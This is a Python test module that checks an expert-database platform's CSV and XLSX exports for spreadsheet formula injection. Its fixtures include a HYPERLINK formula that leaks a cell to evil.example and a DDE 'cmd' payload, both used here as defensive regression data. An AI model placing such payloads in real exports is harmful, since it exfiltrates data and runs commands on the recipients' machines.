"""Formula injection (issue 18, finding 5): no export runs what a user typed as a spreadsheet formula.

Every CSV and XLSX the platform writes (the office's expert export, the KPI report) goes through
`skillatlas.exports`: a risky CSV cell gets a leading quote, an XLSX text cell is a string with the
quotePrefix style, never a formula. The expert export still imports again unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from skillatlas.alliance import service as alliance_service
from skillatlas.alliance.schemas import OrganisationCreate
from skillatlas.auth.permissions import SYSTEM
from skillatlas.cli import app
from skillatlas.db import unit_of_work
from skillatlas.experts.models import ExpertProfile
from skillatlas.exports import append_row, csv_cell, csv_text, is_risky, restore_cell
from skillatlas.people.models import Person
from tests.conftest import create_user, login
from tests.experts.conftest import esco, orgs, settings  # noqa: F401 - fixtures of the expert tests
from tests.experts.test_cli import ROWS, write_csv
from tests.experts.test_export import fresh_database

runner = CliRunner()

HEADLINE = '=HYPERLINK("https://evil.example/?leak="&B2,"Click for CV")'
BIO = "@SUM(1+1)*cmd|' /C calc'!A0"
NAME = "+Plus Minus"
SECTORS = "-2+3; batteries"
HOSTILE = {"headline": HEADLINE, "bio": BIO, "full_name": NAME, "sectors": SECTORS}


def test_the_shared_helper() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "+cmd"):
        assert is_risky(text) and csv_cell(text) == "'" + text and restore_cell(csv_cell(text)) == text
    for value in ("plain", "12", "-12", "+3.5", "-0.25", "1e5", "", "'quoted", "a=b", 5, -5, None):
        assert csv_cell(value) == value and restore_cell(value) == value
    assert csv_text([["a", "=1+1", -3]]) == "a,'=1+1,-3\n"
    book = Workbook()
    append_row(book.active, ["=1+1", "ok", "-4", 7, "bad\x01char"])
    cells = next(iter(book.active.iter_rows()))
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "s"]
    assert cells[0].quotePrefix and not cells[1].quotePrefix and not cells[2].quotePrefix
    assert cells[4].value == "badchar"  # a character XLSX cannot hold is dropped, never a 500


def _formulas(xlsx: bytes) -> list[str]:
    """Every formula element in the workbook's sheets (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        return [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


def _hostile_experts(tmp_path: Path) -> Path:
    file = write_csv(tmp_path / "experts.csv", [{**ROWS[0], **HOSTILE, "employer": "acea"}, ROWS[1]])
    result = runner.invoke(app, ["experts", "import", str(file)])
    assert result.exit_code == 0 and "2 new" in result.output, result.output
    return file


def _stored(sessions: sessionmaker[Session]) -> tuple[str, str, str, list[str]]:
    with sessions() as db:
        profile, person = db.execute(
            select(ExpertProfile, Person)
            .join(Person, Person.id == ExpertProfile.person_id)
            .where(ExpertProfile.external_id == "X-1")
        ).one()
        return profile.headline, profile.bio, person.full_name, list(profile.sectors)


@pytest.mark.usefixtures("esco", "orgs")
def test_the_office_expert_export_runs_no_formula_and_imports_again(
    client: TestClient, cli_env, engine: Engine, sessions, tmp_path: Path
) -> None:
    _hostile_experts(tmp_path)
    stored = _stored(sessions)
    assert stored == (HEADLINE, BIO, NAME, ["-2+3", "batteries"])
    create_user(sessions, "office@example.org", {"role": "alliance_office"})
    login(client, "office@example.org")

    exported = client.get("/api/experts/export?format=csv")
    assert exported.status_code == 200
    row = next(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert row["headline"] == "'" + HEADLINE and row["bio"] == "'" + BIO
    assert row["full_name"] == "'" + NAME and row["sectors"] == "'" + "-2+3; batteries"
    assert row["day_rate_eur"] == "800" and row["external_id"] == "X-1"  # ordinary cells as they were

    book = client.get("/api/experts/export?format=xlsx")
    assert book.status_code == 200 and _formulas(book.content) == []
    sheet = load_workbook(io.BytesIO(book.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in HOSTILE}
    for name, cell in cells.items():
        assert cell.data_type == "s" and cell.quotePrefix, name
    assert cells["headline"].value == HEADLINE  # the text itself, not a formula and no added quote

    # Both files import again into a fresh database unchanged (the importer takes our quote off).
    (tmp_path / "export.csv").write_bytes(exported.content)
    (tmp_path / "export.xlsx").write_bytes(book.content)
    for name in ("export.csv", "export.xlsx"):
        fresh_database(engine, sessions)
        result = runner.invoke(app, ["experts", "import", str(tmp_path / name)])
        assert result.exit_code == 0 and "2 new" in result.output, (name, result.output)
        assert _stored(sessions) == stored, name


def test_the_kpi_report_runs_no_formula(client: TestClient, sessions) -> None:
    hostile_org = '=HYPERLINK("https://evil.example","Alpha")'
    with unit_of_work(sessions) as db:
        alliance_service.create_organisation(
            db=db,
            actor=SYSTEM,
            data=OrganisationCreate(
                name=hostile_org,
                short_name="evil",
                type="industry",
                country="DE",
                joined_on=dt.date(2026, 2, 1),
            ),
        )
    report = client.get("/api/kpi/report?year=2026").json()
    labels = [b["label"] for b in report["breakdowns"]["organisation"]]
    assert hostile_org in labels  # the organisation is in the report

    text = client.get("/api/kpi/report?year=2026&format=csv").text
    rows = list(csv.reader(io.StringIO(text)))
    assert any(r[3] == "'" + hostile_org for r in rows if r[0] == "breakdown")
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)

    book = client.get("/api/kpi/report?year=2026&format=xlsx").content
    assert _formulas(book) == []
    found = [
        cell
        for sheet in load_workbook(io.BytesIO(book)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == hostile_org
    ]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_kpi_cli_writes_the_same_safe_files(cli_env, sessions, tmp_path: Path, fmt: str) -> None:
    with unit_of_work(sessions) as db:
        alliance_service.create_organisation(
            db=db,
            actor=SYSTEM,
            data=OrganisationCreate(
                name="=SUM(1+1)",
                short_name="sum",
                type="industry",
                country="DE",
                joined_on=dt.date(2026, 2, 1),
            ),
        )
    out = tmp_path / f"kpi.{fmt}"
    result = runner.invoke(app, ["kpi", "report", "--year", "2026", "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        assert "'=SUM(1+1)" in out.read_text(encoding="utf-8")
    else:
        assert _formulas(out.read_bytes()) == []
